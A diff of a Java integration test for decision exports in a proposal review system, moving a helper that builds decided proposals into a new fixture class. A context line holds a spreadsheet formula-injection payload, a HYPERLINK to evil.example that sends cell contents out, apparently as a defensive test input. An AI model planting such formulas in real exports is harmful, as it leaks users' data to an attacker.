@@ -61,7 +61,7 @@ import org.springframework.security.authentication.AuthenticationCredentialsNotF
  * as the same user.
  */
 @IntegrationTest
-@Import({ProposalFixtures.class, ReviewFixtures.class})
+@Import({ProposalFixtures.class, ReviewFixtures.class, DecidedProposalFixtures.class})
 class DecisionExportsTest {
 
     static final String INJECTION = "=HYPERLINK(\"http://evil.example/steal?x=\"&A1,\"点击查看详情\")";
@@ -80,6 +80,7 @@ class DecisionExportsTest {
     @Autowired AuditLog audit;
     @Autowired TaskInbox inbox;
     @Autowired TestAccounts accounts;
+    @Autowired DecidedProposalFixtures decided;
     @Autowired TestClock clock;
     @Autowired JdbcTemplate jdbc;
 
@@ -265,31 +266,8 @@ class DecisionExportsTest {
         return id;
     }
 
-    /** A proposal taken to the department opinion, three experts scoring (a, b, c) of 30/30/40. */
     long decided(long callId, String title, int a, int b, int c, String recommended) {
-        reviewFixtures.experts(3, ResearchField.EQUIPMENT);
-        long id = submitted(callId, title);
-        String number = number(title);
-        accounts.as("t_officer");
-        String f = task(number, "formalReview");
-        formal.start(f);
-        formal.decide(f, FormalDecision.PASS, null, null);
-        String shortage = task(number, "resolveShortage");
-        if (shortage != null) {
-            assignments.resolveShortage(shortage, false);
-        }
-        assignments.confirm(task(number, "confirmExperts"));
-        for (Long expert : jdbc.queryForList("select expert_id from review_assignment where proposal_id = ? and status = 'INVITED'",
-                Long.class, id)) {
-            accounts.asUserId(expert);
-            String r = task(number, "review");
-            reviews.accept(r);
-            reviews.submit(r, new ScoreSheet(List.of(BigDecimal.valueOf(a), BigDecimal.valueOf(b), BigDecimal.valueOf(c)),
-                    new BigDecimal(recommended), Recommendation.SUPPORT, "研究方案可行，建议细化考核指标。", ""));
-        }
-        accounts.as("t_leader");
-        opinions.give(task(number, "departmentOpinion"), true, "同意专家组意见。");
-        return id;
+        return decided.decided(callId, title, a, b, c, recommended);
     }
 
     String number(String title) {
